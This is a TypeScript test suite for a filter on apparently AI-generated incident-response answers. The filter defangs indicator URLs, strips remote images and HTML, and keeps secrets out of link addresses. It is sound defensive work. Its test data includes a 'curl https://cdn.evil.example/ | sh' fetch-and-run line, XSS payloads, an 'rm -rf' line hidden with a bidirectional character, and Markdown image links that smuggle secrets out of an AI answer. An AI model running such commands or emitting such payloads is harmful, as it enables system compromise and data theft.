import { buildPrompt } from '@engineer-chat/chat/prompting'
import { answerReply } from '@engineer-chat/chat/replying'
import { createFinish } from '@engineer-chat/chat/testing'
import { markDeceptive } from '@engineer-chat/markdown'
import t from 'tap'
import { filterAnswer } from '../../src/prompting/output/filter-answer.ts'
import { createStreamFilter } from '../../src/prompting/output/stream-filter.ts'
import { startWorker } from '../replying/reply-harness.ts'
import { createContext, MODEL, SETTINGS } from './prompt-context.ts'

const INCIDENT = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and login.bad.example.' } }
const review = (text: string) => buildPrompt(createContext(INCIDENT), MODEL, SETTINGS).review(text)
const listFindingKinds = (text: string) => review(text).findings.map(({ kind }) => kind)

const LOADING_TAG = '<img src=https://img.example/a.png>'
/** Lists texts that look like code, but that a renderer does not show as code. */
const NO_CODE = [
  `\`\`\`\na \r\`\`\`\r${LOADING_TAG}\n\`\`\``,
  `\`\`\`\r\na\r\n\`\`\`\r\n${LOADING_TAG}\r\n\`\`\`\n`,
  `\`\`\`\n\n\`\`\`\n${LOADING_TAG}\n\n`,
  `\`\`\`\na\n\`\`\`~\n\`\`\`\n${LOADING_TAG}\n\`\`\``,
  `\`\`\`\na\n \`\`\`\n${LOADING_TAG}\n\`\`\`\n`,
  `- a\n\n  \`\`\`\n\`\`\`\n\n\`\`\`\n${LOADING_TAG}\n\`\`\``,
  `a \` b\n\`${LOADING_TAG}\``,
  `\\\\\`a\`${LOADING_TAG}\``,
  `| a | b |\n|---|---|\n| \`${LOADING_TAG} | \` |`,
  `https://img.example/\`${LOADING_TAG}\``,
]

t.test('[FILTER1] nothing in an answer is loaded from elsewhere, in whatever way it is written', async (t) => {
  for (const loading of [
    '![x](https://img.example/a.png)',
    '![](https://img.example/a.png "title")',
    '![a [b] c](https://img.example/a.png)',
    '![x](<https://img.example/a b.png>)',
    '![x][ref]\n\n[ref]: https://img.example/a.png',
    '![ref][]\n\n[ref]: https://img.example/a.png',
    '[![x](https://img.example/a.png)](https://img.example/)',
    '![a\nb](https://img.example/a.png)',
    '![x](\nhttps://img.example/a.png)',
    '![[[[x](https://img.example/a.png)',
    '\\` ![x](https://img.example/a.png) `',
    '1. a\n\n   ```\n![x](https://img.example/a.png)',
    '\uE0000\uE001![x](https://img.example/a.png)',
    '<img src=https://img.example/a.png>',
    '<IMG\nsrc="https://img.example/a.png">',
    '<svg><image href="https://img.example/a.png"/></svg>',
    '<scr<script>ipt>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    ...NO_CODE,
  ]) {
    const { content } = review(loading)
    t.notMatch(content, /!\[/, loading)
    t.notMatch(content, /\]\(/, loading)
    t.notMatch(content, /<[a-z/!]/i, loading)
    t.notMatch(content, /^\[ref\]:/m, loading)
  }
  t.same(listFindingKinds('![x](https://img.example/a.png)'), ['remote_image'])
  t.same(listFindingKinds('<img src=x>'), ['html'])
})

t.test('[FILTER2] links are written out, and lead where they say', async (t) => {
  const readContent = (text: string) => review(text).content
  t.equal(readContent('See [the docs](https://docs.example.org/a_b).'), 'See the docs (https://docs.example.org/a_b).')
  t.equal(readContent('See [https://docs.example.org](https://docs.example.org).'), 'See https://docs.example.org.')
  t.equal(
    readContent('See [it][1].\n\n[1]: https://docs.example.org'),
    'See [it][1].\n\n[1]&#58; https://docs.example.org',
  )
  t.equal(readContent('<https://docs.example.org/x>'), 'https://docs.example.org/x')
  t.equal(readContent('[mail](mailto:a@b.example)'), 'mail (a@b.example)')
  t.equal(readContent('[x](javascript:alert(1))'), 'x (`javascript:alert(1)`)')
  t.same(listFindingKinds('[x](javascript:alert(1))'), ['unsafe_link'])
  t.same(listFindingKinds('[https://bank.example](https://other.example/login)'), ['misleading_link'])
  t.same(listFindingKinds('[bank.example](https://evilbank.example/login)'), ['misleading_link'])
  t.same(listFindingKinds('[bank.example](https://login.bank.example/)'), [])
  t.same(listFindingKinds('[my_bucket.s3.example.com](https://my_bucket.s3.example.com/x)'), [])
  t.same(listFindingKinds('[bücher.example.](https://xn--bcher-kva.example/)'), [])
  t.same(listFindingKinds('[访问bücher.example登录](https://bücher.example/)'), [])
  t.same(listFindingKinds('[bücher.example](https://b.bcher.example/)'), ['misleading_link'])
  t.same(listFindingKinds('[the docs](https://docs.example.org)'), [])
})

t.test('[FILTER3] a link whose text is its own address keeps the Markdown around it', async (t) => {
  const { content } = review('## **Now**\n\nsee [http://login.bad.example/](http://login.bad.example/) and `x`')
  t.equal(content, '## **Now**\n\nsee `hxxp://login[.]bad[.]example/` and `x`')
})

t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
  const { content, findings } = review(
    'It calls https://cdn.evil.example/a.php?x=1. Block [this](http://login.bad.example).',
  )
  t.equal(content, 'It calls `hxxps://cdn[.]evil[.]example/a.php?x=1`. Block this (`hxxp://login[.]bad[.]example`).')
  t.match(findings, [
    {
      kind: 'indicator_link',
      count: 2,
      examples: ['hxxps://cdn[.]evil[.]example/a.php?x=1', 'hxxp://login[.]bad[.]example'],
    },
  ])
  t.equal(review('访问了（http://login.bad.example/x）。').content, '访问了（`hxxp://login[.]bad[.]example/x`）。')
  t.equal(
    review('见http://login.bad.example/x（198.51.100.88）').content,
    '见`hxxp://login[.]bad[.]example/x`（198.51.100.88）',
  )
  t.equal(review('Plain cdn.evil.example and 10.0.0.1').content, 'Plain cdn.evil.example and 10.0.0.1')
})

t.test('[FILTER2] an image without words in a link keeps both addresses', async (t) => {
  const imageInLink = '[![](http://a.example/i.png)](http://b.example/p)'
  const { text, findings } = filterAnswer(imageInLink, { sourcesText: '', secrets: [], fenceMarker: '' })
  t.equal(text, '(http://a.example/i.png) (http://b.example/p)')
  t.ok(findings.some(({ kind }) => kind === 'remote_image'))
})

t.test('[FILTER3] a dot after the host changes nothing', async (t) => {
  const { text, findings } = filterAnswer('http://evil.example./p', {
    sourcesText: 'evil.example',
    secrets: [],
    fenceMarker: '',
  })
  t.notMatch(text, 'http://')
  t.match(findings, [{ kind: 'indicator_link' }])
})

t.test('[FILTER3] addresses that only some renderers open can’t be opened either: www., ws: and wss:', async (t) => {
  const record = 'beacon to evil.example, 203.0.113.7 and 2001:db8::7'
  const filter = (text: string) => filterAnswer(text, { sourcesText: record, secrets: [], fenceMarker: '' })
  for (const [text, shown] of [
    ['See www.evil.example/a.php.', 'See `www[.]evil[.]example/a.php`.'],
    ['It speaks WSS://evil.example:8443/x', 'It speaks `WSS[:]//evil[.]example:8443/x`'],
    ['ws://203.0.113.7/', '`ws[:]//203[.]0[.]113[.]7/`'],
    ['[c2](wss://cdn.evil.example/a)', 'c2 (wss://cdn.evil.example/a)'],
    ['http://[2001:db8::7]:80/x', '`hxxp://[2001:db8::7]:80/x`'],
    ['(http://www.evil.example)', '(`hxxp://www[.]evil[.]example`)'],
  ] as const) {
    t.equal(filter(text).text, shown)
    t.same(
      filter(text).findings.map(({ kind }) => kind),
      shown.includes('`') ? ['indicator_link'] : [],
      text,
    )
  }
  t.equal(filter('www.docs.example, www. and awww.evil.example').text, 'www.docs.example, www. and awww.evil.example')
})

t.test('[FILTER3] a host is found in every spelling', async (t) => {
  const listKinds = (sourcesText: string, address: string) =>
    filterAnswer(`See ${address} now`, { sourcesText, secrets: [], fenceMarker: '' }).findings.map(({ kind }) => kind)
  for (const [record, address] of [
    ['seen http://例子.com/x', 'http://xn--fsqu00a.com/x'],
    ['seen http://例子.com/x', 'www.xn--fsqu00a.com/x'],
    ['seen http://xn--fsqu00a.com/x', 'http://例子.com/x'],
    ['seen 例子.xn--fiqs8s', 'http://例子.中国/x'],
    ['seen 例子。ｃｏｍ', 'http://xn--fsqu00a.com/x'],
    ['seen bu\u0308cher.example', 'http://xn--bcher-kva.example/x'],
    ['seen 2001:0db8:0:0:0:0:0:1', 'http://[2001:db8::1]/x'],
    ['seen 2001:db8::1', 'http://[2001:0db8:0:0:0:0:0:1]:80/x'],
    ['from:2001:0db8:0::1: refused', 'http://[2001:db8::1]/x'],
    ['地址[2001:0db8:0::1]:443', 'http://[2001:db8::1]/x'],
    ['seen ::ffff:203.0.113.7', 'http://203.0.113.7/x'],
    ['seen ::ffff:cb00:7107', 'http://203.0.113.7/x'],
    ['seen ::ffff:203.0.113.7', 'http://[::ffff:cb00:7107]/x'],
    ['seen 203.0.113.7', 'http://[::ffff:203.0.113.7]/x'],
  ] as const)
    t.same(listKinds(record, address), ['indicator_link'], `${record} | ${address}`)
  for (const [record, address] of [
    ['seen [2001:db8::99]:80', 'http://[2001:db8:1::1]/x'],
    ['from 10:33:07 to 11:00:12', 'http://[2001:db8::1]/x'],
    ['seen http://例子.com/x', 'http://xn--bcher-kva.example/x'],
  ] as const)
    t.same(listKinds(record, address), [], `${record} | ${address}`)
})

t.test('[FILTER5] a short or encoded secret leaves in no link; an address that matches by chance stays', async (t) => {
  const keepsAddress = (secret: string, address: string) =>
    !/link left out/.test(
      filterAnswer(`See http://log.example${address} now`, { sourcesText: '', secrets: [secret], fenceMarker: '' })
        .text,
    )
  for (const [secret, address] of [
    ['Kx7!q', '/?p=Kx7!q'],
    ['ab12cd', '/ab12cd'],
    ['hunter', '/?p=hunter'],
    ['48392', '/?pin=48392&x'],
    ['Summer2025!', '/?p=Summer2025%21'],
    ['Summer 2025', '/?p=Summer%202025'],
    ['AKIAABCD\u200bEFGHIJKLMNOP', '/?key=AKIAABCD\u200bEFGHIJKLMNOP'],
    ['Ｔr0ub4dor&3', '/?p=Tr0ub4dor%263'],
    ['Ｔr0ub4dor&3', `/?p=${encodeURIComponent('Ｔr0ub4dor&3')}`],
    ['one%20more%20word', '/?p=one%2520more%2520word'],
    ['Tr0ub4dor&3', `/?b=${Buffer.from('x:Tr0ub4dor&3').toString('base64')}`],
  ] as const) {
    t.notOk(keepsAddress(secret, address), `${secret} in ${address}`)
  }
  // A short secret occurs in addresses by chance. It has to be a whole part, and a plain word or number a value.
  for (const [secret, address] of [
    ['hunter', '/hunter/a'],
    ['ab12cd', '/xab12cd0'],
    ['48392', '/a/48392'],
    ['ab', '/?p=ab'],
  ] as const) {
    t.ok(keepsAddress(secret, address), `${secret} in ${address}`)
  }
  const context = { sourcesText: '', secrets: ['x-ab12', 'ab12'], fenceMarker: '' }
  t.match(
    filterAnswer('See http://log.example/?p=box-ab12 now', context).text,
    'link left out',
    'one secret ends another',
  )
})

t.test('[FILTER4] code and plain prose stay as they are', async (t) => {
  for (const text of [
    'Run `curl https://cdn.evil.example/a.php`.',
    '```sh\ncurl https://cdn.evil.example/ | sh\necho "<img>" ![x](y)\n```\n',
    'a < b and c > d, 1 <2, arr[1] (see above), wow! [ev1] [C2] *very* **bold**',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '1. Look:\n   ```sh\n   ls\n   ```\n\n2. Run `curl https://cdn.evil.example/a.php`.',
    '~~~\n```\n<img>\n~~~\n\nthen ``a ` <b>`` and `x | <y>`',
  ]) {
    t.equal(review(text).content, text)
    t.same(review(text).findings, [])
  }
})

t.test('[FILTER5] a secret doesn’t leave in a link, and a fence’s marker isn’t repeated', async (t) => {
  const context = createContext({ question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
  const { turns, review: check, restore } = buildPrompt(context, MODEL, SETTINGS)
  const leaking = check(restore('[x](https://log.example/?k=[[KEY-1]]) and [[KEY-1]]'))
  t.match(leaking, { content: /link left out.* and AKIA/, findings: [{ kind: 'secret_in_link' }] })
  t.notMatch(JSON.stringify(leaking.findings), 'AKIA')
  for (const secret of ['Summer2025!', 'Summer2025密码', 'Rh2E)pFg.E78x', 'Corr3ct horse battery', 'Rh2E|pFg.E78x']) {
    const filtered = filterAnswer(`See http://log.example/?p=${secret} now`, {
      sourcesText: '',
      secrets: [secret],
      fenceMarker: '',
    })
    t.match(
      filtered,
      { text: /link left out/, findings: [{ kind: 'secret_in_link' }] },
      `${secret} ends an address early`,
    )
  }
  const marker = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
  t.match(check(`The data <<<${marker} ev1 event says so.`), {
    content: 'The data ‹fence› ev1 event says so.',
    findings: [{ kind: 'mark_repeated' }],
  })
})

t.test('[FILTER6] the findings of the filter are stored with the reply', async (t) => {
  const worker = await startWorker([['Look ![x](https://img.exam', 'ple/a.png)', createFinish()]])
  await answerReply(worker.ctx, worker.ref, new AbortController().signal)
  t.equal(worker.getContent()?.content, 'Look x (https://img.example/a.png)')
  const { items } = await worker.stores.reviews.list({ limit: 10 })
  t.match(items, [{ reply: { hits: [{ kind: 'remote_image', count: 1 }], verdict: null } }])
  const deltas = worker.publishedHints.filter(({ type }) => type === 'delta').map(({ text }) => text)
  t.equal(deltas.join(''), 'Look !&#91;x](https://img.example/a.png)', 'and nothing was loaded meanwhile')
})

t.test('[FILTER6] findings in the reasoning of an answer are recorded, too, and marked as such', async (t) => {
  const thought = { type: 'reasoning', text: 'The log says: ![x](https://img.example/a.png). ' } as const
  const worker = await startWorker([[thought, 'Isolate <img src=y> it.', createFinish()]])
  await answerReply(worker.ctx, worker.ref, new AbortController().signal)
  t.match(worker.getContent(), { reasoning: 'The log says: ![x](https://img.example/a.png). ' })
  const { items } = await worker.stores.reviews.list({ limit: 10 })
  t.same(items[0]?.reply.hits, [
    { kind: 'html', count: 1, examples: ['img'] },
    { kind: 'remote_image', count: 1, examples: ['hxxps://img[.]example/a.png'], in_reasoning: true },
  ])
  const clean = await startWorker([[thought, 'Isolate it.', createFinish()]])
  await answerReply(clean.ctx, clean.ref, new AbortController().signal)
  t.match((await clean.stores.reviews.list({ limit: 10 })).items, [{ reply: { hits: [{ in_reasoning: true }] } }])
})

t.test('[FILTER6] reasoning is plain text: its characters stay, and its indicators can’t be opened', async (t) => {
  const context = createContext({ ...INCIDENT, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
  const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
  const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
  t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
  t.equal(
    reviewReasoning('See [it](http://login.bad.example/x), `curl https://cdn.evil.example`.').text,
    'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
  )
  t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
  const marker = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
  t.match(reviewReasoning(`<<<${marker} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
})

t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
  const text = 'a ![x](u) <img src=u> <b> <IFRAME src=u></iframe> if x<im and !! [y](u) <!-- <scripted> <script>!'
  const whole = filterStream([text])
  t.notMatch(whole, /!\[/)
  t.notMatch(whole, /<(?:img|iframe|script)\b/i)
  t.match(whole, '<scripted>')
  for (let split = 0; split <= text.length; split++) {
    t.equal(filterStream([text.slice(0, split), text.slice(split)]), whole)
  }
  t.equal(filterStream([...text]), whole)
})

/** Returns what readers see of an answer that arrives in these pieces. */
function filterStream(pieces: string[]): string {
  const filter = createStreamFilter()
  return pieces.map((piece) => filter.push(piece)).join('') + filter.end()
}

t.test('[FILTER7] a hostile answer is filtered within seconds', async (t) => {
  for (const text of [
    '![',
    '[',
    '[a](',
    '](',
    '<',
    '`',
    '[a]: ',
    'https://',
    '![a](b',
    '[[',
    '(((',
    '\\',
    '\n',
    '```\n',
    '`a`',
    '`a` \n',
  ]) {
    const before = process.threadCpuUsage() // Other processes may slow down the clock, but not this.
    review(text.repeat(20_000))
    const ms = process.threadCpuUsage(before).user / 1_000
    t.ok(ms < 4_000, `${text} took ${Math.round(ms)} ms`)
  }
})

t.test('[DECEPTIVE4] an answer shows its hidden characters, in code and in reasoning too', async (t) => {
  const { review: check, reviewReasoning } = buildPrompt(createContext(INCIDENT), MODEL, SETTINGS)
  t.equal(
    check('Run `rm -rf \u202e/x` on pa\u00adypal.com 👩🏽\u200d💻').content,
    'Run `rm -rf ⟨U+202E⟩/x` on pa⟨U+00AD⟩ypal.com 👩🏽\u200d💻',
  )
  t.equal(reviewReasoning('a\u200bb').text, 'a⟨U+200B⟩b')
  t.equal(check('now\u0085\u2028then').content, 'now\u0085\u2028then', 'a separator of lines stays')
  const marked = check('pa\u00adypal.com and http://pаypal.com').content
  t.equal(check(marked).content, marked, 'a second review changes nothing')
})

t.test('[FILTER3] [FILTER5] hidden characters break neither an indicator nor a secret up', async (t) => {
  const context = { sourcesText: 'evil.example', secrets: ['Tr0ub4dor&3'], fenceMarker: '' }
  for (const hidden of ['\u200b', '\u00ad', '\u202e']) {
    const indicator = filterAnswer(markDeceptive(`http://ev${hidden}il.example/x`), context)
    t.match(indicator.findings, [{ kind: 'indicator_link' }])
    const secret = filterAnswer(markDeceptive(`http://log.example/?p=Tr0ub${hidden}4dor&3`), context)
    t.match(secret.findings, [{ kind: 'secret_in_link' }])
  }
})

t.test('[FILTER4] [FILTER5] an address ends where Chinese text begins, and the text after it is kept', async (t) => {
  const context = { sourcesText: '恶意.com evil.example', secrets: ['Tr0ub4dor&3x', '密码Abc12345'], fenceMarker: '' }
  const shown = (text: string) => filterAnswer(text, context).text
  const rest = '然后立即隔离主机WEB01并重置密码。'
  t.equal(shown(`攻击者访问 http://log.example/?q=Tr0ub4dor&3x${rest}`), `攻击者访问 \`[link left out]\`${rest}`)
  t.equal(shown(`访问http://evil.example/a${rest}`), `访问\`hxxp://evil[.]example/a\`${rest}`)
  t.equal(shown(`访问http://evil.example${rest}`), `访问\`hxxp://evil[.]example\`${rest}`)
  t.equal(shown(`访问http://198.51.100.7${rest}`), `访问http://198.51.100.7${rest}`)
  for (const host of ['恶意.com', 'www.恶意.com', 'u:p@恶意.com']) {
    t.equal(shown(`http://${host}/x${rest}`), `\`hxxp://${host.replaceAll('.', '[.]')}/x\`${rest}`, host)
  }
  t.equal(shown('http://log.example/한국어'), 'http://log.example/한국어')
  for (const secret of ['密码Abc12345', '中Tr0ub4dor&3x', '中http://b.example/Tr0ub4dor&3x']) {
    t.match(filterAnswer(`http://log.example/?q=${secret}`, context), {
      text: /^`hxxp:..log\[\.\]example\/\?q=`/,
      findings: [{ kind: 'unsafe_link' }],
    })
  }
})
